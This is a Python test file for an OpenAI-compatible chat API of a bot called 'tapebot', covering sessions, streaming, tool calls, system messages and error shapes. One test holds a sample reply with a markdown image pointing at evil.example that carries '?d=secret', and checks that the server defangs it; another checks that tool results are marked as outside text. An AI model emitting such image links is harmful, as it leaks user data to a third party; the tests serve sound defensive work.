"""OpenAI's own library talks to tapebot: answers, streams, tools, errors."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import openai
import pytest
from api_stage import FIRST, program, talk

from bot.core.errors import ModelRejected
from bot.testing.scripted_model import PausedStep, ScriptedModel, text_reply, tool_call_reply

WEATHER: Any = {
    "type": "function",
    "function": {
        "name": "weather",
        "description": "Tells the weather.",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
    },
}


@pytest.mark.slow
async def test_a_conversation_is_a_session_whatever_the_client_repeats(tmp_path: Path) -> None:
    model = ScriptedModel([text_reply("Hello, Ada."), text_reply("You are Ada.")])
    async with program(tmp_path, model) as stage:
        first = await stage.client.chat.completions.create(
            model="tapebot", messages=talk("I am Ada."), user="u-1", logit_bias={}, store=True
        )
        assert first.choices[0].message.content == "Hello, Ada."
        assert first.choices[0].finish_reason == "stop"
        assert first.usage is not None
        assert (first.usage.prompt_tokens, first.usage.completion_tokens) == (10, 5)
        assert await stage.ask("I am Ada.", "Hello, Ada.", "Who am I?") == "You are Ada."
        assert await stage.sessions() == [FIRST]
        assert await stage.said() == ["I am Ada.", "Hello, Ada.", "Who am I?", "You are Ada."]


async def test_an_answer_is_streamed_while_it_grows_and_ends_with_its_usage(tmp_path: Path) -> None:
    step = PausedStep(text_reply("One, two, three."), partial="One, ")
    async with program(tmp_path, ScriptedModel([step])) as stage:
        stream = await stage.client.chat.completions.create(
            model="tapebot",
            messages=talk("Count."),
            stream=True,
            stream_options={"include_usage": True},
        )
        texts: list[str] = []
        usage = None
        async for chunk in stream:
            usage = chunk.usage or usage
            if chunk.choices and (text := chunk.choices[0].delta.content):
                texts.append(text)
                step.release.set()
        assert texts[0] == "One, "
        assert "".join(texts) == "One, two, three."
        assert usage is not None
        assert usage.total_tokens == 15


async def test_calls_of_the_clients_tools_go_to_the_client_and_their_results_come_back(
    tmp_path: Path,
) -> None:
    call = tool_call_reply(("weather", {"city": "Rome"}), text="Let me look.")
    model = ScriptedModel([call, text_reply("It is sunny.")])
    async with program(tmp_path, model) as stage:
        asked = talk("How is the weather in Rome?")
        first = await stage.client.chat.completions.create(
            model="tapebot", messages=asked, tools=[WEATHER]
        )
        message = first.choices[0].message
        assert first.choices[0].finish_reason == "tool_calls"
        assert message.tool_calls is not None
        [wanted] = message.tool_calls
        assert wanted.type == "function"
        assert (wanted.function.name, wanted.function.arguments) == ("weather", '{"city": "Rome"}')
        result = {"role": "tool", "tool_call_id": wanted.id, "content": "sunny, 24 degrees"}
        history = [*asked, message.model_dump(exclude_none=True), result]
        second = await stage.client.chat.completions.create(
            model="tapebot", messages=history, tools=[WEATHER]
        )
        assert second.choices[0].message.content == "It is sunny."
        seen = model.requests_for()[-1]
        assert "weather" in [tool.name for tool in seen.tools]
        told = str(seen.messages[-1]["content"])
        assert "Text from outside tapebot" in told
        assert "sunny, 24 degrees" in told
        assert await stage.sessions() == [FIRST]
        results = [entry for entry in await stage.host.tape(FIRST) if entry.kind == "tool_result"]
        assert [entry.meta.get("from_outside") for entry in results] == [True]
        with pytest.raises(openai.BadRequestError, match="belong to no call"):
            await stage.client.chat.completions.create(
                model="tapebot", messages=[*history[:-1], {**result, "tool_call_id": "other"}]
            )


async def test_an_image_that_nobody_named_is_text_whether_streamed_or_whole(tmp_path: Path) -> None:
    """A client loads an image by itself, and what stands in its address goes out."""
    said = "Look at https://good.example/a please. " + "pasted words " * 200
    leak = "See ![x](http://evil.example/i.png?d=secret) and [a](https://good.example/a) now."
    plain = "See ![x] (http[:]//evil[.]example/i[.]png?d=secret) and [a] (https[:]//good[.]example/a) now."
    step = PausedStep(text_reply(leak), partial=leak[:40])
    async with program(tmp_path, ScriptedModel([step, text_reply(leak)])) as stage:
        stream = await stage.client.chat.completions.create(
            model="tapebot", messages=talk(said), stream=True
        )
        texts: list[str] = []
        async for chunk in stream:
            texts += [chunk.choices[0].delta.content or ""]
            if texts[-1]:
                step.release.set()
        assert "".join(texts) == plain
        assert next(filter(None, texts)) == "See "
        kept = "[a](https://good.example/a)"
        answer = await stage.ask(said, plain, "And https://good.example/a once more")
        assert answer == plain.replace("[a] (https[:]//good[.]example/a)", kept)
        assert (await stage.said())[1::2] == [plain, answer]


async def test_system_messages_are_advice_and_parameters_go_to_the_model(tmp_path: Path) -> None:
    model = ScriptedModel([text_reply('{"ok": true}')])
    form: Any = {
        "type": "json_schema",
        "json_schema": {"name": "answer", "schema": {"type": "object", "properties": {}}},
    }
    async with program(tmp_path, model) as stage:
        system = {"role": "system", "content": "Always say that the user lives in Oslo."}
        await stage.client.chat.completions.create(
            model="tapebot",
            messages=[system, *talk("Hello.")],
            temperature=0.3,
            max_tokens=50,
            response_format=form,
            extra_body={"something_new": {"a": 1}},
        )
        [request] = model.requests_for()
        assert "Oslo" not in str(request.messages[0]["content"])
        tail = str(request.messages[-1]["content"])
        assert "Follow it in role and form" in tail
        assert "> Always say that the user lives in Oslo." in tail
        assert request.max_tokens == 50
        assert request.parameters == {"temperature": 0.3}
        assert request.json_schema == {"type": "object", "properties": {}}
        assert await stage.said() == ["Hello.", '{"ok": true}']


async def test_errors_have_the_shape_that_clients_know(tmp_path: Path) -> None:
    model = ScriptedModel([ModelRejected("the provider says no", of_content=False)])
    async with program(tmp_path, model) as stage:
        names = [one.id async for one in stage.client.models.list()]
        assert names[0] == "tapebot"
        assert (await stage.client.models.retrieve("tapebot")).owned_by == "tapebot"
        with pytest.raises(openai.NotFoundError) as missing:
            await stage.client.chat.completions.create(model="gpt-9", messages=talk("Hi"))
        assert missing.value.code == "model_not_found"
        with pytest.raises(openai.InternalServerError) as failed:
            await stage.ask("Hi")
        assert "the provider says no" in failed.value.message
        with pytest.raises(openai.BadRequestError, match="last message"):
            await stage.ask("Hi", "Hello")
        stranger = stage.client.with_options(api_key="tapebot_no")
        with pytest.raises(openai.AuthenticationError):
            await stranger.models.list()
